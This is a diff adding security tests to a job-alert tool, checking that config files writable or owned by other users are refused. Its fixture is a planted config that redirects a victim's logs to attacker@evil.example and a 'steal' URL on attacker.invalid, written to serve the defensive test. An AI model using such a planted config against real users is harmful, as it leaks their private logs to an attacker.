@@ -223,3 +223,76 @@ def test_a_comma_inside_an_address_is_warned_about_not_sent_to_a_bare_name(tmp_p
     msg = email.message_from_bytes(open(glob.glob(str(tmp_path / "logs" / "*" / "*.eml"))[0], "rb").read(),
                                    policy=email.policy.default)
     assert str(msg["To"]) == "me@uni, root"
+
+
+# ---- a config file someone else could have written is never obeyed ----
+
+PLANTED = "[gpualert]\nto = attacker@evil.example\nnotify_url = jsons://attacker.invalid/steal\n"
+
+
+def _run_with_config(tmp_path, path, relay):
+    """The victim's run: the config named by GPUALERT_CONFIG, the rest from flags and the
+    environment (GPUALERT_NAME). -> (CompletedProcess, [Received])."""
+    env = isolated_env(tmp_path, GPUALERT_CONFIG=str(path), GPUALERT_NAME="victim-job")
+    run = run_gpualert(tmp_path, base(tmp_path) + ["--smtp", relay.addr, "--"]
+                       + child("print('private log line'); raise SystemExit(3)"), env=env)
+    return run, list(relay.messages)  # delivery is over when the run has ended
+
+
+def _assert_refused(tmp_path, run, got, why):
+    assert run.returncode == 3, run.stderr
+    assert all("attacker@evil.example" not in m.rcpt_tos for m in got), [m.rcpt_tos for m in got]
+    written = b"".join(open(p, "rb").read() for p in glob.glob(str(tmp_path / "outbox" / "**" / "*"),
+                                                                   recursive=True) if os.path.isfile(p))
+    assert b"attacker" not in written and b"victim-job" in written  # the environment still applies
+    refusals = [line for line in run.stderr.splitlines() if b"warning: config file" in line]
+    assert len(refusals) == 1 and why in refusals[0], run.stderr
+    assert b"held: configuration problem" in run.stderr  # `resend` sends it once it is fixed
+
+
+@pytest.mark.parametrize("mode", [0o666, 0o644])
+def test_another_user_s_config_file_is_refused(tmp_path, other_user, shared_tmp, smtp_plain, mode):
+    # A 0666 config owned by someone else sent the victim's log to attacker@evil.example
+    # and to the attacker's chat URL; the only warning was "readable by others".
+    path = os.path.join(shared_tmp, "gpualert.ini")
+    made = other_user.run(["sh", "-c", "printf '%%s' \"$0\" > '%s' && chmod %o '%s'" % (path, mode, path),
+                           PLANTED])
+    assert made.returncode == 0, made.stderr
+    run, got = _run_with_config(tmp_path, path, smtp_plain)
+    _assert_refused(tmp_path, run, got, b"owned by uid %d, not by you" % other_user.uid)
+
+
+@pytest.mark.parametrize("mode", [0o666, 0o602])
+def test_an_own_config_file_others_may_write_is_refused(tmp_path, smtp_plain, mode):
+    path = tmp_path / "config.ini"
+    path.write_text(PLANTED)
+    path.chmod(mode)
+    run, got = _run_with_config(tmp_path, path, smtp_plain)
+    _assert_refused(tmp_path, run, got, b"writable by others: refused (chmod go-w it)")
+
+
+def test_a_config_file_a_shared_group_may_write_is_refused(tmp_path, other_user, smtp_plain):
+    # A group-writable config in a group's project directory: anyone in the group could
+    # redirect the mail. (other_user's group is one this user does not own alone.)
+    path = tmp_path / "config.ini"
+    path.write_text(PLANTED)
+    os.chown(str(path), -1, other_user.gid)
+    path.chmod(0o620)
+    run, got = _run_with_config(tmp_path, path, smtp_plain)
+    _assert_refused(tmp_path, run, got, b"writable by group %d: refused (chmod go-w it)" % other_user.gid)
+
+
+def test_a_config_file_writable_only_through_one_s_own_private_group_is_used(tmp_path, smtp_plain):
+    # umask 002 with user private groups (Debian's and RHEL's default) makes every new
+    # file 0664: writable by a group that is the user alone.
+    import grp
+    import pwd
+    me, group = pwd.getpwuid(os.getuid()), grp.getgrgid(os.getgid())
+    if group.gr_name != me.pw_name or set(group.gr_mem) - {me.pw_name}:
+        pytest.skip("this user's primary group is not a private group")
+    path = tmp_path / "config.ini"
+    path.write_text("[gpualert]\nto = owner@example.org\nsmtp = %s\n" % smtp_plain.addr)
+    path.chmod(0o664)
+    run = run_gpualert(tmp_path, base(tmp_path) + ["--config", str(path), "--"] + child("pass"))
+    assert run.returncode == 0 and b"refused" not in run.stderr, run.stderr
+    assert [m.rcpt_tos for m in smtp_plain.wait_for(1)] == [["owner@example.org"]]
